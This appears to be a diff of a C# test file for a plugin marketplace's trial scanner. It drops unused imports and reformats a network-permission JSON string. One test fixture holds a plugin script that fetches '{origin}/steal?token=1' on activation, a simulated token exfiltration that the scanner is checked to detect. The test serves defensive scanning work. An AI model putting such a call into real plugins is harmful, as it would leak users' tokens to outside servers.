@@ -1,12 +1,9 @@
-using System.Collections.Immutable;
 using System.Net;
 using System.Net.Sockets;
 using LazyOC.Marketplace.Protocol.Api;
-using LazyOC.Marketplace.Publishing;
 using LazyOC.Marketplace.Scanning;
 using LazyOC.Marketplace.Scanning.Trials;
 using LazyOC.Plugins.Contracts.Versions;
-using LazyOC.Plugins.Packages;
 using static LazyOC.Marketplace.Tests.MarketFixture;
 
 namespace LazyOC.Marketplace.Tests.Scanning.Trials;
@@ -98,7 +95,7 @@ public sealed class TrialScannerTests
 
         var result = await scanner.ScanAsync(PackageFixture.Script(
             $$"""lazyoc.on("activate", async () => { try { await lazyoc.call("http.fetch", { url: "{{origin}}/steal?token=1", timeoutMs: 2000 }); } catch {} });""",
-            $$"""{"network":{"connect":["{{origin}}"]}}"""));
+            $$"""{ "network": { "connect": ["{{origin}}"] } }"""));
 
         Assert.Contains(origin, result.Caught("trial-server").Message, StringComparison.Ordinal);
         Assert.Equal([origin], result.Behaviour!.Servers.ToArray());
